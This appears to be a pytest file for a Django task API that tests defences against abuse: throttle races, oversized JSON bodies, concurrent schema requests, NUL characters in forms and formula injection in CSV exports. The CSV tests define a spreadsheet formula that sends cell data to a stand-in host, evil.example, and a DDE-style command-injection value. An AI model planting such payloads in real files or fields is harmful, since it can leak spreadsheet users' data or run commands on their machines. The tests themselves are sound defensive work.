"""Abuse from outside (issue 20, item 6): concurrent callers against the throttles, bodies built to
cost server time, concurrent first requests for the schema, formulas in CSV exports.

Reproduced before: 640 requests in 23 s against a 600/min rate and 300 wrong tokens from 16 threads
with no 429 (DRF's throttles read the cache, then write it: concurrent callers all read the same
history); a 2.3 MB body of 200,000 keys cost 11–13 s and answered an 8.9 MB error; ``/api/schema/``
answered 500 to concurrent first requests; an ``=HYPERLINK(…)`` reason written raw into the audit CSV.
"""

from __future__ import annotations

import csv
import importlib
import io
import json
import os
import pkgutil
import subprocess
import sys
import urllib.error
import urllib.request
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path

import pytest
from django import forms
from django.test import Client
from django.utils import timezone
from rest_framework.exceptions import ParseError
from rest_framework.throttling import SimpleRateThrottle

import console
from api import errors as errors_module
from api import parsers
from api.views.schema import SchemaApi
from audit import export
from config import throttling
from console.forms import ConsoleForm, SavedViewForm
from tasks.models import Task
from tasks.states import State
from tasks.transitions import Actor, advance
from tenancy.models import SavedView
from tenancy.services import token_create
from tests.conftest import api_client_for, make_task, progress

THREADS = 16
ROOT = Path(__file__).resolve().parents[2]


def status_of(url: str, key: str) -> int:
    request = urllib.request.Request(url, headers={"Authorization": f"Token {key}"})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status
    except urllib.error.HTTPError as refused:
        return refused.code


def concurrently(url: str, keys: list[str]) -> Counter[int]:
    """One GET per key, from ``THREADS`` threads at once, against the live server."""
    with ThreadPoolExecutor(THREADS) as pool:
        return Counter(pool.map(lambda key: status_of(url, key), keys))


@pytest.fixture
def hourly_rates(monkeypatch):
    # Hourly windows: a run of a few seconds that crosses a window's edge gains no measurable
    # allowance. DRF binds the rates to its classes at import, so they are patched there.
    monkeypatch.setattr(SimpleRateThrottle, "THROTTLE_RATES", {"user": "200/hour", "anon": "60/hour"})


@pytest.fixture(params=["memory", "redis"])
def shared_cache(request, settings):
    """The embedded default (one process's memory) and Redis, what several web processes share.

    Each Redis run has a prefix of its own: the server is shared, and nothing here clears it."""
    if request.param == "redis":
        settings.CACHES = {
            "default": {
                "BACKEND": "django.core.cache.backends.redis.RedisCache",
                "LOCATION": os.environ.get("TEST_REDIS_URL", "redis://127.0.0.1:6379/0"),
                "KEY_PREFIX": f"test-abuse-{uuid.uuid4().hex}",
            }
        }
    return request.param


def within_two_percent(accepted: int, limit: int) -> bool:
    return abs(accepted - limit) <= limit * 0.02


@pytest.mark.django_db(transaction=True)
def test_concurrent_callers_with_one_token_get_no_more_than_the_user_rate(
    live_server, hourly_rates, shared_cache, operator
):
    _, key = token_create(operator, scopes=["read"], expires_at=timezone.now() + timedelta(days=1), name="t")
    url = f"{live_server.url}/api/tasks/{uuid.uuid4()}/"  # past the throttle, a cheap 404
    answers = concurrently(url, [key] * 320)
    assert set(answers) == {404, 429}, answers
    assert within_two_percent(answers[404], 200), answers


@pytest.mark.django_db(transaction=True)
def test_concurrent_wrong_tokens_from_one_address_get_no_more_than_the_anonymous_rate(
    live_server, hourly_rates, shared_cache, acme
):
    answers = concurrently(f"{live_server.url}/api/tasks/", [f"wrong-{n}" for n in range(300)])
    assert set(answers) == {401, 429}, answers
    assert within_two_percent(answers[401], 60), answers


@pytest.mark.django_db
def test_the_edge_of_a_window_is_no_burst_of_twice_the_rate():
    end_of_window = 3600 * 1000 - 1.0
    allowed = sum(throttling.take("edge", 100, 3600, now=end_of_window).allowed for _ in range(150))
    # 36 s into the next window, 1 % of the period has passed: about 1 % of the rate is free again.
    after = sum(throttling.take("edge", 100, 3600, now=end_of_window + 37).allowed for _ in range(150))
    assert (allowed, after) == (100, 1)


# --- bodies built to cost server time -------------------------------------------------------------


def wide_body(keys: int) -> bytes:
    """A task start whose ``input`` has ``keys`` members (200,000 of them: 2.3 MB)."""
    body = {"task_type": "refund_request", "objective": "x", "input": {str(n): 0 for n in range(keys)}}
    return json.dumps(body).encode()


def test_a_body_of_200000_keys_is_refused_by_the_parser_before_it_is_built():
    with pytest.raises(ParseError, match=f"more than {parsers.MAX_KEYS} keys"):
        parsers.BoundedJSONParser().parse(io.BytesIO(wide_body(200_000)))


@pytest.mark.django_db
def test_a_body_of_200000_keys_is_a_small_400_and_starts_nothing(integrator):
    client = api_client_for(integrator)
    response = client.post("/api/tasks/", wide_body(200_000), content_type="application/json")
    assert response.status_code == 400
    assert len(response.content) < 300, len(response.content)
    assert "keys" in response.json()["detail"]
    assert not Task.objects.exists()


@pytest.mark.django_db
def test_field_errors_are_a_bounded_list_that_says_how_many_more(integrator):
    client = api_client_for(integrator)
    response = client.post("/api/tasks/", wide_body(5_000), content_type="application/json")
    assert response.status_code == 400
    errors = response.json()["input"]
    assert len(errors) == errors_module.MAX_ERRORS + 1
    assert errors["…"] == f"and {5_000 + 3 - errors_module.MAX_ERRORS} more"  # + the 3 missing fields
    assert len(response.content) < 5_000, len(response.content)


# --- the schema under concurrent first requests ---------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_concurrent_first_requests_for_the_schema_all_get_it(live_server, operator, monkeypatch):
    monkeypatch.setattr(SchemaApi, "_built", {})  # first requests, whichever test built it before
    _, key = token_create(operator, scopes=["read"], expires_at=timezone.now() + timedelta(days=1), name="t")
    answers = concurrently(f"{live_server.url}/api/schema/", [key] * THREADS)
    assert answers == Counter({200: THREADS})


# --- formulas in CSV exports ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open the invoice")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def task_with_formulas(tenant) -> Task:
    task = make_task(tenant, objective=FORMULA, idempotency_key="@SUM(1+1)*cmd|' /C calc'!A0")
    return advance(
        task.id,
        task.state_version,
        State.READY,
        actor=Actor.worker("w1"),
        progress=progress("s"),
        reason=FORMULA,
    )


CSV_EXPORTS = {
    "audit-task": lambda task: f"/console/audit/tasks/{task.id}/export.csv",
    "audit-search": lambda task: "/console/audit/export.csv",
    "queue": lambda task: "/console/export.csv",
}


@pytest.mark.django_db
@pytest.mark.parametrize("export", CSV_EXPORTS.values(), ids=CSV_EXPORTS.keys())
def test_no_csv_export_writes_a_cell_a_spreadsheet_would_evaluate(export, acme, operator, auditor):
    task = task_with_formulas(acme)
    client = Client()
    client.force_login(auditor if "audit" in export(task) else operator)
    rows = csv_cells(client.get(export(task)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], rows
    assert f"'{FORMULA}" in cells


@pytest.mark.django_db
def test_a_guarded_audit_csv_cell_reads_back_to_the_hashed_text(acme, auditor):
    task = task_with_formulas(acme)
    client = Client()
    client.force_login(auditor)
    header, *rows = csv_cells(client.get(f"/console/audit/tasks/{task.id}/export.csv"))
    reasons = [export.cell_text(row[header.index("reason")]) for row in rows]
    assert FORMULA in reasons


# --- text no column can hold, in console forms ----------------------------------------------------


def console_form_classes() -> list[type[forms.Form]]:
    """Every form class the console's modules define."""
    for module in pkgutil.iter_modules(console.__path__):
        importlib.import_module(f"console.{module.name}")
    found, todo = [], [forms.Form]
    while todo:
        for sub in todo.pop().__subclasses__():
            todo.append(sub)
            if sub.__module__.startswith("console."):
                found.append(sub)
    return found


def test_every_console_form_refuses_text_no_column_can_hold():
    classes = console_form_classes()
    assert len(classes) >= 14
    assert [cls.__qualname__ for cls in classes if not issubclass(cls, ConsoleForm)] == []


@pytest.mark.parametrize("text", ["stuck\x00refunds", "stuck\ud800refunds"], ids=["nul", "lone-surrogate"])
def test_a_console_text_field_names_what_it_cannot_hold(text):
    form = SavedViewForm({"name": text, "query": ""})
    assert not form.is_valid()
    [message] = form.errors["name"]
    assert "position 5" in message and ("NUL" in message or "U+D800" in message)


@pytest.mark.django_db
def test_a_nul_in_a_saved_view_name_is_a_clear_message_and_nothing_saved(operator):
    client = Client(raise_request_exception=False)
    client.force_login(operator)
    response = client.post("/console/views/", {"name": "a\x00b", "query": "state=ready"}, follow=True)
    assert response.status_code == 200
    assert "contains a NUL character" in response.content.decode()
    assert not SavedView.objects.exists()


@pytest.mark.django_db
def test_a_nul_in_a_control_reason_is_a_clear_message_and_nothing_applied(operator, acme):
    task = make_task(acme)
    client = Client(raise_request_exception=False)
    client.force_login(operator)
    body = {"expected_version": 1, "reason": "a\x00b", "confirm": "on"}
    response = client.post(f"/console/tasks/{task.id}/cancel/", body, follow=True)
    assert response.status_code == 200
    assert "contains a NUL character" in response.content.decode()
    assert Task.objects.get(pk=task.pk).state_version == 1


@pytest.mark.parametrize("url", ["dbcache://django_cache", "filecache:///tmp/throttles"])
def test_a_cache_without_atomic_increments_is_refused_at_start_up(url):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "DEBUG": "1", "CACHE_URL": url}
    result = subprocess.run(
        [sys.executable, "manage.py", "check"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode != 0
    assert "increments are not atomic" in result.stderr and "redis://" in result.stderr
